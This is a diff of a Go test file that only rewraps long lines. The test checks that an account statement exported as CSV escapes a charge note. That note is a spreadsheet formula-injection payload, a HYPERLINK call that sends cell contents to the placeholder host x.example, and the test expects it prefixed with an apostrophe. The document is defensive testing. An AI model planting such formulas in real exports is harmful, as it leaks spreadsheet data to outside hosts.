@@ -21,7 +21,8 @@ import (
 // bookedAccount makes an account with a deposit, a charge whose note is like a formula, and another.
 func (s *server) bookedAccount() (path string) {
 	s.t.Helper()
-	path = s.do(s.admin, "POST", "/v1/accounts", object{"name": "Lab", "currency": "EUR"}).fresh(201).header.Get("Location")
+	path = s.do(s.admin, "POST", "/v1/accounts", object{"name": "Lab", "currency": "EUR"}).fresh(201).
+		header.Get("Location")
 	s.do(s.admin, "POST", path+"/deposits", object{"id": newID(), "amount_cents": 500}).fresh(201)
 	s.do(s.admin, "POST", path+"/charges", object{"id": newID(), "amount_cents": 120,
 		"note": `=HYPERLINK("http://x.example?"&A1,"a, b")`}).fresh(201)
@@ -88,7 +89,8 @@ func TestAStatementIsATableOnRequest(t *testing.T) {
 		t.Fatalf("%d rows: %v", len(rows), err)
 	}
 	for i, want := range []string{
-		"created_at,kind,amount_cents,delta_cents,balance_cents,pickup_id,note", ",opening,,,0,,", "deposit,500,500,500,,",
+		"created_at,kind,amount_cents,delta_cents,balance_cents,pickup_id,note",
+		",opening,,,0,,", "deposit,500,500,500,,",
 		`charge,120,-120,380,,'=HYPERLINK("http://x.example?"&A1,"a, b")`, "charge,80,-80,300,,Fee", "closing,,,300,,",
 	} {
 		got := strings.Join(rows[i], ",")
@@ -141,7 +143,8 @@ func (s *server) ledger(n int, note string) uuid.UUID {
 
 func (s *server) open(web *httptest.Server, account uuid.UUID, accept string) *http.Response {
 	s.t.Helper()
-	r, err := http.NewRequestWithContext(s.t.Context(), "GET", web.URL+"/v1/accounts/"+account.String()+"/statement", nil)
+	r, err := http.NewRequestWithContext(s.t.Context(), "GET",
+		web.URL+"/v1/accounts/"+account.String()+"/statement", nil)
 	s.must(err)
 	r.Header.Set("Authorization", "Bearer "+s.staff.token)
 	r.Header.Set("Accept", accept)
